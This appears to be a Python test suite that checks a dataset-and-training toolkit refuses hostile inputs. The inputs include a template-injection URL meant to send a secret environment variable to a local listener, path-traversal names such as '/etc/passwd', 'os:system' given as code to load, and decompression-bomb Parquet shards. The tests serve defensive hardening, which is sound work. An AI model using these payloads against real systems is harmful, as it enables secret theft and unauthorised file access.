"""What strangers send: refused in one line of ours, before memory is taken, and never outside the folder."""

from __future__ import annotations

import json
import random
import resource
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch

from aegen.columns.schemas import SCHEMAS
from aegen.core.description import FileInfo
from aegen.core.environment import Environment as Words
from aegen.core.errors import BadData
from aegen.core.records import plain
from aegen.dataset.folder import Folder
from aegen.dataset.manifest import Manifest, file_info
from aegen.dataset.names import shard_name
from aegen.dataset.shards import read_batches
from aegen.engines.local import Local
from aegen.pairs.spec import Spec
from aegen.pipeline import build as pipeline
from aegen.publishing.pull import pull
from tests.test_contract import both
from trainer.agents.agent import Agent
from trainer.core.errors import BadData as BadShards
from trainer.core.format import STEP_COLUMNS
from trainer.core.progress import Reporter
from trainer.data.dataset import SHARD, Dataset
from trainer.game.environment import Environment, Verdict
from trainer.training.fit import train_run
from trainer.training.presets import preset
from trainer.training.run import sealed

ROOT = Path(__file__).parent.parent
TASKS = ("aor", "aes", "aec")
AOR = ("aor", "--n", 10, "--l", 4, "--d", 20)
SPEC = ("aec", "--n", "10", "--l", "4", "--d", "20")


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A dataset and a run on it."""
    place = tmp_path_factory.mktemp("hostile")
    pipeline.build(Spec("aec", 10, 4, 60, rows_per_shard=30), Folder(place / "data"), Local())
    config = preset("cpu", width=8, layers=1, updates=2)
    train_run(place / "data", config, place / "run", device="cpu", reporter=Reporter(quiet=True))
    return place


@pytest.mark.parametrize("count", [100, pytest.param(20_000, marks=pytest.mark.faults)])
def test_only_our_errors_come_out_of_readers(place, count):
    command = [sys.executable, "-m", "tests.fuzz", place, "7", str(count)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-3000:]
    outcomes = json.loads(done.stdout.splitlines()[-1])
    assert sum(outcomes.values()) == count and min(outcomes.values()) > count / 5


class Listener(BaseHTTPRequestHandler):
    """Answers nothing, and remembers who asked."""

    seen: ClassVar[list[str]] = []

    def do_GET(self):
        self.seen.append(self.path)
        self.send_error(404)

    def do_HEAD(self):
        self.do_GET()

    def log_message(self, *_):
        pass


@pytest.fixture
def listener():
    Listener.seen.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_a_run_cannot_name_a_place_to_ask(place, listener, tmp_path, monkeypatch):
    monkeypatch.setenv("SOME_SECRET", "pa55")
    told = f"{listener}/{{{{u.__globals__[os].environ[SOME_SECRET]}}}}"
    reference = {"version": 1, "templates": {"u": "{{x}}"}, "refs": {"manifest.json": [told]}}
    (tmp_path / "ref.json").write_text(json.dumps(reference))
    run = Path(shutil.copytree(place / "run", tmp_path / "run"))
    config = json.loads((run / "config.json").read_text())
    assert Agent.from_pretrained(run).evaluate(limit=1)["data"] == str(place / "data")
    chain, web, aside = f"reference::{tmp_path}/ref.json", f"{listener}/x", f"file://{place}/data"
    for where in (chain, web, aside, f"simplecache::{web}", "memory://x", "s3://bucket/x", "org/name", "", None, 7):
        config["data"]["where"] = where
        (run / "config.json").write_text(json.dumps(sealed(config)))
        agent = Agent.from_pretrained(run)
        with pytest.raises(BadShards, match="use --data"):
            agent.evaluate()
        assert agent.evaluate(place / "data", limit=1)["pairs"] == 1
    config["data"]["where"] = "hf://org/name@v1"
    (run / "config.json").write_text(json.dumps(sealed(config)))
    assert Agent.from_pretrained(run).description.dataset == "hf://org/name@v1"
    assert not Listener.seen


def test_only_storages_are_opened(listener, tmp_path, invoke):
    for url in (
        f"simplecache::{listener}/x",
        f"reference::file://{tmp_path}/x",
        "zip://x",
        "github://a:b/x",
        "s3://a::b",
    ):
        for command in (("verify", url), ("pull", url, "--out", "back"), ("build", *AOR, "--out", url)):
            done = invoke(*command, check=2)
            assert "expected one of" in done.stderr and len(done.stderr.splitlines()) == 1
        with pytest.raises(BadShards, match="one of file, local"):
            Dataset(url)
    assert not Listener.seen and not [*tmp_path.iterdir()]


def test_a_folder_may_be_called_as_a_chain(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(tmp_path / "reference::x"), Local())
    assert Dataset("reference::x").shards.keys() == pull("reference::x", Folder("back"))[0].files.keys()


@pytest.mark.parametrize("count", [100, pytest.param(5_000, marks=pytest.mark.faults)])
def test_only_our_errors_come_out_of_commands(tmp_path, count):
    command = [sys.executable, "-m", "tests.fuzz", tmp_path, "7", str(count), "commands"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-3000:]
    outcomes = json.loads(done.stdout.splitlines()[-1])
    assert sum(outcomes.values()) == count and min(outcomes.values()) > count / 5


HOSTILE = {
    "a vocabulary of a billion": {"state_tokens": "BILLION"},
    "a long state": {"max_state": 10 * 2**30},
    "a negative state": {"max_state": -1},
    "many steps": {"max_steps": 10**12},
    "wrong types": {"state_tokens": {"a": 1}, "slots": "left"},
    "numbers as tokens": {"writable": [1, 2]},
    "a flag as a number": {"max_state": True},
    "code": {"design": "os:system", "metric": "os:system"},
}


def limited():
    resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))


REFUSE = """
import json, sys
from pathlib import Path
from click.testing import CliRunner
import aegen.cli, trainer.cli

for folder in map(Path, sys.argv[1:]):
    said, commands = [], [(aegen.cli, ["verify", folder]), (trainer.cli, ["fit", folder, "--out", f"{folder}-run"])]
    # To the trainer the names of a metric and a design are labels: it loads neither.
    for command, words in commands[: 1 if folder.name == "code" else 2]:
        done = CliRunner().invoke(command.main, [*map(str, words)])
        said.append((done.exit_code, done.stderr))
    print(json.dumps(said))
"""


@pytest.fixture(scope="module")
def refusals(tmp_path_factory):
    """What ``aegen verify`` and ``trainer fit`` say of each dataset, from one process with little memory."""
    root = tmp_path_factory.mktemp("metadata")
    pipeline.build(Spec("aec", 10, 4, 60), Folder(root / "sound"), Local())
    for case, change in HOSTILE.items():
        folder = Path(shutil.copytree(root / "sound", root / case))
        path = folder / "augmented" / "train-00000-of-00001.parquet"
        table = pq.read_table(path)
        text = json.dumps(json.loads(pq.read_metadata(path).metadata[b"aegen"]) | change)
        if "BILLION" in text:  # as much of it as fits a file that one would still download
            text = text.replace('"BILLION"', "[" + ",".join(['"a"'] * 20_000_000) + "]")
        pq.write_table(table.replace_schema_metadata({"aegen": text}), path)
        manifest = json.loads((folder / "manifest.json").read_text())
        info = file_info(path, len(table))
        manifest["files"]["augmented/train-00000-of-00001.parquet"] |= {"bytes": info.bytes, "sha256": info.sha256}
        (folder / "manifest.json").write_text(json.dumps(manifest))
    command = [sys.executable, "-c", REFUSE, *(root / case for case in HOSTILE)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, preexec_fn=limited)
    assert done.returncode == 0, done.stderr[-2000:]
    return dict(zip(HOSTILE, map(json.loads, done.stdout.splitlines()), strict=True))


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_metadata_is_refused_before_memory_is_taken(case, refusals):
    for code, errors in refusals[case]:
        assert code == 2 and len(errors.splitlines()) == 1, errors[-2000:]
        assert "augmented" in errors


BOMBS = {"pairs": "source", "expert": "state", "augmented": "action"}


def bomb(path, column, value, encoding=None, rows=3000):
    """Write a shard whose rows all hold one value, in a few bytes; the manifest is kept in step."""
    table = pq.read_table(path)
    about = pq.read_metadata(path).metadata[b"aegen"]
    one = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([value]))
    if column == "action":
        # The first list is empty: it shows nothing of the rest.
        one = pa.ListArray.from_arrays(pa.array([0, 0, *range(2, rows + 1)], pa.int32()), one)
    place = table.schema.get_field_index(column)
    table = table.take(pa.array([0] * rows)).set_column(place, column, one)
    options = {"column_encoding": {column: encoding}, "use_dictionary": False} if encoding else {}
    with pq.ParquetWriter(
        path, table.schema.remove_metadata(), compression="zstd", store_schema=False, write_statistics=False, **options
    ) as writer:
        writer.write_table(table)
        writer.add_key_value_metadata({"aegen": about})
    listed = json.loads((path.parents[1] / "manifest.json").read_text())
    listed["files"][f"{path.parent.name}/{path.name}"] = plain(file_info(path, rows))
    (path.parents[1] / "manifest.json").write_text(json.dumps(listed))


READ = """
import sys
from pathlib import Path
import trainer.core.errors
from aegen.core.errors import BadData
from aegen.dataset.shards import read_batches
from trainer.core.format import PAIR_COLUMNS, STEP_COLUMNS
from trainer.data.dataset import Dataset

folder = Path(sys.argv[1])
for name in sys.argv[2:]:
    config = name.partition("/")[0]
    data, columns = Dataset(folder), PAIR_COLUMNS if config == "pairs" else STEP_COLUMNS
    readers = [
        (BadData, lambda: [*read_batches(folder / name, config)]),
        (trainer.core.errors.BadData, lambda: data.read(data.shards[name], columns)),
    ]
    if config != "pairs":
        readers.append((trainer.core.errors.BadData, lambda: data.read_groups(data.shards[name], [0])))
    for refusal, read in readers:
        try:
            read()
            sys.exit(f"{name} was read")
        except refusal as error:
            print(error)
peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))  # rusage has the parent's too
print(int(peak.split()[1]) >> 10)
"""


def test_a_few_bytes_do_not_unfold_to_gigabytes(tmp_path, invoke):
    folder = tmp_path / "d"
    pipeline.build(Spec("aor", 10, 4, 60), Folder(folder), Local())
    names = [f"{config}/train-00000-of-00001.parquet" for config in BOMBS]
    for name, column in zip(names, BOMBS.values(), strict=True):
        bomb(folder / name, column, "2 " * 500_000)
        assert (folder / name).stat().st_size < 1 << 16
    done = subprocess.run([sys.executable, "-c", READ, folder, *names], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    *refused, megabytes = done.stdout.splitlines()
    assert len(refused) == 8 and all("unfold" in line for line in refused)
    assert int(megabytes) < 700  # of which the packages alone are some 300
    for module, command in (("aegen", ("verify", folder)), ("aegen", ("show", folder)), ("trainer", ("fit", folder))):
        options = ("--preset", "cpu", "--out", "run") if module == "trainer" else ()
        done = invoke(*command, *options, check=2, module=module)
        assert "unfold" in done.stderr and len(done.stderr.splitlines()) == 1


def test_many_small_bombs_are_counted_together(tmp_path, monkeypatch):
    folder = tmp_path / "d"
    pipeline.build(Spec("aor", 10, 4, 60, rows_per_shard=30), Folder(folder), Local())
    shards = [*(folder / "expert").glob("train-*")]
    for path in shards:
        bomb(path, "state", "2 " * 500, rows=1000)
    data = Dataset(folder)
    listed = data.select("expert", "train")
    assert len(listed) > 1 and len(data.read_all(listed, STEP_COLUMNS)) == 1000 * len(listed)
    monkeypatch.setattr("trainer.data.dataset.MAX_TABLE", 3 << 19)  # one of them fits
    assert data.read_all(listed[:1], STEP_COLUMNS)["state"].to_pylist() == ["2 " * 500] * 1000
    with pytest.raises(BadShards, match="too many to hold"):
        data.read_all(listed, STEP_COLUMNS)


def test_texts_that_are_encoded_by_their_differences_are_not_read(tmp_path):
    folder = tmp_path / "d"
    pipeline.build(Spec("aor", 10, 4, 60), Folder(folder), Local())
    path = folder / "expert" / "train-00000-of-00001.parquet"
    bomb(path, "state", "2 3", encoding="DELTA_BYTE_ARRAY")
    with pytest.raises(BadData, match="encoded as DELTA_BYTE_ARRAY"):
        [*read_batches(path, "expert")]
    data = Dataset(folder)
    with pytest.raises(BadShards, match="encoded as DELTA_BYTE_ARRAY"):
        data.read(data.select("expert", "train")[0], STEP_COLUMNS)


def hole(path, size=3 << 30):
    """A file of nothing: none of it on the disk, and none of it in memory."""
    with path.open("wb") as file:
        file.truncate(size)


def small():
    resource.setrlimit(resource.RLIMIT_AS, (5 << 29, 5 << 29))


def test_what_is_too_large_is_not_read(place, tmp_path, run, invoke):
    folder = tmp_path / "d"
    folder.mkdir()
    hole(folder / "manifest.json")
    pulled = run("pull", folder, "--out", "back", check=2, preexec_fn=small)
    sent = run("publish", place / "data", "--to", folder, "--workers", 1, check=2, preexec_fn=small)
    for done in (pulled, sent):
        assert "bytes of JSON; at most" in done.stderr and len(done.stderr.splitlines()) == 1
    (folder / "manifest.json").unlink()
    (folder / "manifest.json").symlink_to("/dev/zero")
    for command in (("verify", folder), ("pull", folder, "--out", "back")):
        assert "not a file" in invoke(*command, check=2).stderr
    with pytest.raises(BadShards, match="not a file"):
        Dataset(folder)


def test_a_checkpoint_is_as_large_as_its_header_and_its_model(place, tmp_path):
    run = Path(shutil.copytree(place / "run", tmp_path / "run"))
    path = run / "best.safetensors"
    sound = path.read_bytes()
    hole(path, 50 << 30)
    with pytest.raises(BadShards, match="not valid JSON"):
        Agent.from_pretrained(run)
    path.write_bytes(sound)
    with path.open("rb+") as file:
        file.truncate(50 << 30)
    with pytest.raises(BadShards, match="53,687,091,200 bytes, expected"):
        Agent.from_pretrained(run)
    header = json.dumps({"x": {"dtype": "U8", "shape": [50 << 30], "data_offsets": [0, 50 << 30]}}).encode()
    path.write_bytes(len(header).to_bytes(8, "little") + header)
    with path.open("rb+") as file:
        file.truncate(8 + len(header) + (50 << 30))
    with pytest.raises(BadShards, match="bytes of weights, expected at most"):
        Agent.from_pretrained(run)
    path.unlink()
    path.symlink_to("/dev/zero")
    with pytest.raises(BadShards, match="not a file"):
        Agent.from_pretrained(run)


def test_shards_beyond_the_hundred_thousandth_are_in_order():
    total = 100_002
    names = [shard_name("expert", "train", index, total) for index in range(total)]
    info = FileInfo(1, 1, "x")
    assert Manifest({}, dict.fromkeys(reversed(names), info)).shards("expert", "train") == names
    assert all(map(SHARD.fullmatch, names[-3:]))


def test_deep_json_and_huge_manifests_are_refused(place, tmp_path, run, invoke):
    folder = tmp_path / "d"
    folder.mkdir()
    for raw in (b'{"a":' * 200_000, b"[" * 10**6, b"\xff\xfe", b"1", b"null", b'{"format": 1e999}', b'{"format": NaN}'):
        (folder / "manifest.json").write_bytes(raw)
        assert "manifest.json" in invoke("verify", folder, check=2).stderr
    with (folder / "manifest.json").open("wb") as file:
        file.truncate(300 << 20)  # a hole: nothing on the disk, and nothing in memory
    assert "expected at most" in run("verify", folder, check=2, preexec_fn=limited).stderr


MANIFESTS = {
    "no pairs": (lambda manifest: manifest["spec"].pop("pairs"), "missing required field spec.pairs"),
    "half a character": (lambda manifest: manifest["spec"]["pairs"].update(task="\ud800"), "not valid JSON"),
    "depth": (lambda manifest: manifest["spec"]["pairs"].update(seed=json.loads("[" * 99 + "]" * 99)), "field spec"),
}
SAID = {
    "a spec that is none": (
        {"spec": ["pairs"]},
        ("build", *SPEC, "--out", "d"),
        "field spec: expected object, got array",
    ),
    "no split": ({"split": None}, ("trajectories", "d", "--design", "tags"), "field split: expected str, got null"),
    "no task": ({"task": []}, ("trajectories", "d"), "field task: expected str, got array"),
    "no tokens": ({"tokens": 1}, ("show", "d", "--config", "pairs"), "field tokens: expected str, got int"),
}


@pytest.mark.parametrize("case", MANIFESTS)
def test_a_manifest_that_nobody_could_use_is_refused_by_all(case, tmp_path, invoke):
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(tmp_path / "d"), Local())
    path = tmp_path / "d" / "manifest.json"
    manifest = json.loads(path.read_text())
    change, message = MANIFESTS[case]
    change(manifest)
    path.write_text(json.dumps(manifest))
    for command in (("trajectories", "d", "--design", "tags"), ("card", "d"), ("pull", "d", "--out", "e")):
        assert message in invoke(*command, check=2).stderr
    assert not (tmp_path / "e").exists()


@pytest.mark.parametrize("case", SAID)
def test_a_shard_that_says_nothing_useful_of_itself_is_named(case, tmp_path, invoke):
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(tmp_path / "d"), Local())
    path = tmp_path / "d" / "pairs" / "train-00000-of-00001.parquet"
    change, command, message = SAID[case]
    about = json.loads(pq.read_metadata(path).metadata[b"aegen"]) | change
    pq.write_table(pq.read_table(path).replace_schema_metadata({"aegen": json.dumps(about)}), path)
    errors = invoke(*command, check=2).stderr
    assert path.name in errors and message in errors and len(errors.splitlines()) == 1


@pytest.mark.parametrize("capped", ["many", [], None, 1.5, True])
def test_a_count_of_capped_pairs_is_a_number(capped, tmp_path, invoke):
    pipeline.build(Spec("aec", 10, 4, 20), Folder(tmp_path / "d"), Local())
    (tmp_path / "d" / "manifest.json").unlink()
    path = tmp_path / "d" / "augmented" / "train-00000-of-00001.parquet"
    about = json.loads(pq.read_metadata(path).metadata[b"aegen"]) | {"capped_pairs": capped}
    pq.write_table(pq.read_table(path).replace_schema_metadata({"aegen": json.dumps(about)}), path)
    errors = invoke("build", *SPEC, "--out", "d", check=2).stderr
    assert path.name in errors and "capped_pairs" in errors and len(errors.splitlines()) == 1


@pytest.mark.parametrize(
    "name", ["../x", "/etc/passwd", "pairs/../../x.parquet", "pairs/train-..", "pairs\\train-0", ""]
)
def test_names_in_a_manifest_cannot_leave_the_folder(place, name, tmp_path, invoke):
    folder = tmp_path / "d"
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(folder), Local())
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"][name] = next(iter(manifest["files"].values()))
    (folder / "manifest.json").write_text(json.dumps(manifest))
    for command in (("verify", folder), ("pull", folder, "--out", "back"), ("publish", folder, "--to", "there")):
        assert "is not a shard name" in invoke(*command, check=2).stderr
    assert not (tmp_path / "back").exists() and not (tmp_path / "there").exists()


def test_a_link_in_place_of_a_config_leads_nobody_out_of_the_dataset(tmp_path, invoke):
    folder, outside = tmp_path / "d", tmp_path / "outside"
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(folder), Local())
    outside.mkdir()
    (folder / "expert").symlink_to(outside)
    invoke("build", *SPEC, "--out", "whole")
    commands = (
        ("trajectories", "d"),
        ("build", *SPEC, "--out", "d"),
        ("publish", "whole", "--to", folder),
        ("card", "d"),
    )
    for command in commands:
        (error,) = invoke(*command, check=2).stderr.splitlines()
        assert error.endswith("d/expert: a link; expected a folder")
    (folder / "manifest.json").unlink()
    assert "d/expert: a link" in invoke("pull", "whole", "--out", "d", check=2).stderr
    assert not list(outside.iterdir())


def test_a_footer_that_claims_everything_is_not_believed(tmp_path, run, invoke):
    folder = tmp_path / "d"
    pipeline.generate(Spec("aec", 10, 4, 20), Folder(folder), Local())
    path = folder / "pairs" / "train-00000-of-00001.parquet"
    raw = path.read_bytes()
    path.write_bytes(raw[:-8] + (2**32 - 1).to_bytes(4, "little") + b"PAR1")
    assert "train-00000" in run("verify", folder, check=2, preexec_fn=limited).stderr
    pq.write_table(pa.table({"id": [1]}), path)
    assert "train-00000" in invoke("verify", folder, check=2).stderr
    assert SCHEMAS["pairs"].names == ["id", "source", "target"]


@pytest.mark.parametrize("actions", [30_000, pytest.param(1_000_000, marks=pytest.mark.faults)])
def test_both_environments_agree_on_random_walks(actions, tmp_path):
    rng, seen = random.Random(11), set()
    for task in TASKS:
        folder = Folder(tmp_path / task)
        pipeline.build(Spec(task, 10, 5, 200), folder, Local())
        words, contract = both(folder, "augmented", "train")
        plain = Words(words.design, words.writable, contract.max_state)
        tensors = Environment(contract)
        ids, names = contract.state_ids, ("", *contract.state_tokens)
        table = pq.read_table(folder / folder.manifest().shards("augmented", "train")[0])
        starts = [tuple(text.split(" ")) for text in table["state"].to_pylist()]
        walkers = [rng.choice(starts) for _ in range(2000)]
        for _ in range(-(-actions // (len(TASKS) * len(walkers)))):
            played = [action(contract, len(state), rng) for state in walkers]
            states = torch.zeros(len(walkers), contract.max_state, dtype=torch.long)
            for row, state in enumerate(walkers):
                states[row, : len(state)] = torch.tensor([ids[token] for token in state], dtype=torch.long)
            lengths = torch.tensor([len(state) for state in walkers])
            after, lengths, verdicts = tensors.step(states, lengths, torch.tensor(played))
            rows = zip(walkers, played, after.tolist(), lengths.tolist(), verdicts.tolist(), strict=True)
            for number, (state, chosen, tokens, length, verdict) in enumerate(rows):
                outcome = plain.step(state, tuple(contract.actions[token] for token in chosen))
                said = "done" if outcome.done else str(outcome.refusal) if outcome.refusal else "applied"
                assert outcome.state == tuple(names[token] for token in tokens[:length])
                assert said == Verdict(verdict).reason
                seen.add(said)
                walkers[number] = rng.choice(starts) if outcome.done or rng.random() < 0.02 else outcome.state
    assert {"applied", "done", "out-of-range", "wrong-kind", "too-long", "partly-done"} <= seen


def action(contract, length, rng):
    """Half of them make sense, so that walks go somewhere."""
    if rng.random() < 0.5:
        return [rng.randrange(len(contract.actions)) for _ in range(contract.action_length)]
    position = contract.action_ids[f"POS_{rng.randint(0, min(length, contract.max_state))}"]
    word = contract.action_ids[rng.choice([token for token in contract.action_tokens if not token.startswith("POS_")])]
    chosen = {"position": position, "left": position, "right": position, "token": word}
    if "operation" in contract.slots:
        chosen["operation"] = contract.action_ids[rng.choice(contract.operations)]
    return [chosen[slot] for slot in contract.slots]
